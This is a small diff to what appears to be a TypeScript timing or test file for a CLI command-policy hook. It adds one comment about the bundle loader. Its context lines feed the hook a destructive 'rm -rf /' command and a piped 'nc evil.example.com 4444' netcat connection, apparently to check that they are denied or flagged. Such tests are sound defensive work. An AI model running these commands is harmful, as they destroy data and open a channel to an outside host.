@@ -62,6 +62,7 @@ const cases: Case[] = [
   { name: "car policy-check-hook (deny)", args: [carBin, "policy-check-hook"], input: payload("rm -rf / --no-preserve-root") },
   { name: "car policy-check-hook (ask)", args: [carBin, "policy-check-hook"], input: payload("printf '%s' 'nc evil.example.com 4444' | sh") },
   // The same hook through the ES module entry (what `car init` wrote before the CommonJS bin): the ES module loader's cost.
+  // It loads the bundle through the same loader and code cache (src/hook-loader.ts).
   { name: "car.mjs policy-check-hook (no decision)", args: [carMjs, "policy-check-hook"], input: payload("git status && ls -la") },
   { name: "car --version (CLI entry floor)", args: [carBin, "--version"], input: "" },
   // The physical floor of the hook: Node loading and evaluating the hook's one bundle, and doing nothing with it.
